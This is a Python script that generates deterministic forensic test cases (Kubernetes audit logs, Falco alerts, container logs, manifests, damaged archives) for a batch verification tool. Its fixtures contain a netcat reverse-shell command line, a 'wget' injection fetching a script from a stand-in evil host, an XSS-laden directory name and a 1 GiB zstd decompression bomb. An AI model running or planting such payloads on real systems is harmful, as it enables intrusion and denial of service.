#!/usr/bin/env python3
"""Makes an archive of many small cases, each time the same bytes:

    tests/batch/cases.py DIRECTORY [COUNT]      (1,000 take about two seconds)

A case is a directory or an archive with an audit log, Falco's alerts, a container log, a
pod and a manifest of sha256sum. Attackers, accounts, images and files come from small
pools, so that cases share them. Every ninth case is damaged in one of six ways; its name
says how, and so which verdict is right. What is made besides with `extra`:

    bad/bomb        1 GiB of zeros in 33 KB, in a package that is otherwise in order
    bad/crash       in itself an ordinary case: tests/batch/misbehave.c makes its process
    bad/hang        crash, hang or eat memory while it works
    bad/hungry
    <script>…       a case whose name is hostile
"""
import hashlib
import io
import json
import os
import random
import sys
import tarfile
import zipfile

ADDRESSES = [f"203.0.113.{i}" for i in range(2, 40)]
DOMAINS = ["drop.evil.example", "c2.bad.example", "pool.mine.example", "cdn.ok.example"]
IMAGES = [f"registry.example/team/{name}:{tag}" for name in
          ("shop", "api", "worker", "auth", "mail") for tag in ("1.0", "1.1", "2.0")]
ACCOUNTS = [f"system:serviceaccount:{ns}:{name}" for ns in ("shop", "pay", "mail")
            for name in ("default", "deployer", "reader")] + ["alice", "bob", "mallory"]
DAMAGE = ("changed", "missing", "unlisted", "truncated", "renamed", "emptied")
ARCHIVES = (None, None, "tar", "tar.gz", "zip")
HOSTILE = "<script>alert(1)<\u2215script>\"'&\u202e"
DAY = 1795392000  # 2026-11-23


def stamp(second):
    hours, rest = divmod(second % 86400, 3600)
    return f"2026-11-23T{hours:02}:{rest // 60:02}:{rest % 60:02}"


def audit_event(dice, pod, number):
    """One request to the API server, in the form that kube-apiserver writes."""
    verb, resource, sub, code = dice.choice(
        [("get", "pods", "", 200), ("list", "pods", "", 200), ("get", "secrets", "", 200),
         ("list", "secrets", "", 403), ("create", "pods", "exec", 101),
         ("create", "clusterrolebindings", "", 201), ("watch", "configmaps", "", 200)])
    path = f"/api/v1/namespaces/{pod['ns']}/{resource}/{pod['name']}" + (f"/{sub}" if sub else "")
    at = stamp(pod["second"] + number)
    return {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
            "auditID": f"{dice.getrandbits(128):032x}", "stage": "ResponseComplete",
            "requestURI": path, "verb": verb,
            "user": {"username": dice.choice(ACCOUNTS), "groups": ["system:authenticated"]},
            "sourceIPs": [dice.choice(ADDRESSES)], "userAgent": "kubectl/v1.29.0",
            "objectRef": {k: v for k, v in (("resource", resource), ("namespace", pod["ns"]),
                                            ("name", pod["name"]), ("apiVersion", "v1"),
                                            ("subresource", sub)) if v},
            "responseStatus": {"metadata": {}, "code": code},
            "requestReceivedTimestamp": f"{at}.{number % 1000:03}000Z",
            "stageTimestamp": f"{at}.{number % 1000:03}900Z"}


def falco_alert(dice, pod, number):
    address = dice.choice(ADDRESSES)
    at = f"{stamp(pod['second'] + number)}.000000000Z"
    return {"hostname": "worker-1", "priority": "Notice", "rule": "Run shell untrusted",
            "source": "syscall", "time": at, "tags": ["container", "T1059.004"],
            "output": f"{at[11:19]}: Notice Shell spawned by untrusted binary",
            "output_fields": {"container.id": pod["container"][:12], "k8s.ns.name": pod["ns"],
                              "k8s.pod.name": pod["name"], "proc.name": "sh",
                              "proc.cmdline": f"sh -c nc {address} 4444 -e sh",
                              "fd.name": f"10.0.0.7:41100->{address}:4444",
                              "evt.time": (DAY + pod["second"] + number) * 10**9}}


def container_log(dice, pod):
    lines = []
    for i in range(dice.randrange(3, 12)):
        text = dice.choice(
            ["GET /items 200", "GET /health 200", "POST /order 201",
             f"GET /report?name=x;wget+http://{dice.choice(DOMAINS)}/x.sh 200",
             f"sha256 {hashlib.sha256(bytes([dice.randrange(20)])).hexdigest()} fetched"])
        lines.append(f"{stamp(pod['second'] + i)}.000000000Z stdout F {text}\n")
    return "".join(lines)


def pod_manifest(pod):
    return json.dumps({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": pod["name"], "namespace": pod["ns"],
                     "uid": f"00000000-0000-4000-8000-{pod['number']:012x}"},
        "spec": {"containers": [{"name": "main", "image": pod["image"]}]},
        "status": {"containerStatuses": [{"name": "main", "image": pod["image"],
                                          "containerID": "containerd://" + pod["container"]}]}},
        indent=1) + "\n"


def manifest(files):
    return "".join(f"{hashlib.sha256(content).hexdigest()}  {name}\n"
                   for name, content in sorted(files.items())).encode()


def contents(number):
    """The files of an undamaged case, without the manifest."""
    dice = random.Random(number)
    pod = {"number": number, "ns": dice.choice(("shop", "pay", "mail")),
           "name": f"api-{number}", "second": number * 37, "image": dice.choice(IMAGES),
           "container": hashlib.sha256(b"container %d" % number).hexdigest()}
    files = {"pod.json": pod_manifest(pod), "api.log": container_log(dice, pod)}
    files["audit.log"] = "".join(json.dumps(audit_event(dice, pod, i)) + "\n"
                                 for i in range(dice.randrange(5, 40)))
    if number % 3:
        files["falco.jsonl"] = "".join(json.dumps(falco_alert(dice, pod, i)) + "\n"
                                       for i in range(dice.randrange(1, 4)))
    return {name: text.encode() for name, text in files.items()}


def damage(files, how):
    """What somebody did to the package after its manifest was written."""
    log = files["audit.log"]
    if how == "changed":
        files["audit.log"] = log[:100] + bytes([log[100] ^ 1]) + log[101:]
    elif how == "missing":
        del files["api.log"]
    elif how == "unlisted":
        files["note.txt"] = b"added later\n"
    elif how == "truncated":
        files["audit.log"] = log[:len(log) // 2]
    elif how == "renamed":
        files["api.log.1"] = files.pop("api.log")
    else:
        files["api.log"] = b""


def write_directory(path, files):
    os.makedirs(path)
    for name, content in files.items():
        with open(os.path.join(path, name), "wb") as f:
            f.write(content)


def write_zip(path, files):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in files.items():
            z.writestr(zipfile.ZipInfo(name, (2026, 11, 23, 0, 0, 0)), content)


def write_tar(path, files):
    """With gzip's header as of 1970, so that the bytes are the same each time."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as t:
        for name, content in files.items():
            member = tarfile.TarInfo(name)
            member.size, member.mtime = len(content), DAY
            t.addfile(member, io.BytesIO(content))
    data = raw.getvalue()
    if path.endswith(".gz"):
        import gzip
        data = gzip.compress(data, mtime=0)
    with open(path, "wb") as f:
        f.write(data)


def bomb(size):
    """Zeros as a zstd frame of run-length blocks (RFC 8878, 3.1.1.2)."""
    block, count = 128 << 10, size // (128 << 10)
    head = b"\x28\xb5\x2f\xfd" + bytes([0x00, 0x38])  # window of 128 KiB
    middle = (block << 3 | 1 << 1).to_bytes(3, "little") + b"\0"
    last = (block << 3 | 1 << 1 | 1).to_bytes(3, "little") + b"\0"
    return head + middle * (count - 1) + last


def write_case(root, number):
    files = contents(number)
    files["SHA256SUMS"] = manifest(files)
    name = f"case-{number:04}"
    if number % 9 == 4:
        how = DAMAGE[number // 9 % len(DAMAGE)]
        damage(files, how)
        name += "-" + how
    path = os.path.join(root, f"{number % 10}", name)
    kind = ARCHIVES[number % len(ARCHIVES)]
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if kind is None:
        write_directory(path, files)
    elif kind == "zip":
        write_zip(path + ".zip", files)
    else:
        write_tar(f"{path}.{kind}", files)


def write_extra(root, count):
    for i, name in enumerate(("bomb", "crash", "hang", "hungry")):
        files = contents(count + i)
        if name == "bomb":
            files["core.zst"] = bomb(1 << 30)
        if name == "hang":  # the largest, so that others are worked on while it hangs
            files["core"] = bytes(1 << 20)
        files["SHA256SUMS"] = manifest(files)
        write_directory(os.path.join(root, "bad", name), files)
    files = contents(count + 9)
    files["SHA256SUMS"] = manifest(files)
    write_directory(os.path.join(root, HOSTILE), files)


def make(root, count, extra=True):
    for number in range(count - 5 if extra else count):
        write_case(root, number)
    if extra:
        write_extra(root, count)


if __name__ == "__main__":
    make(sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 1000)
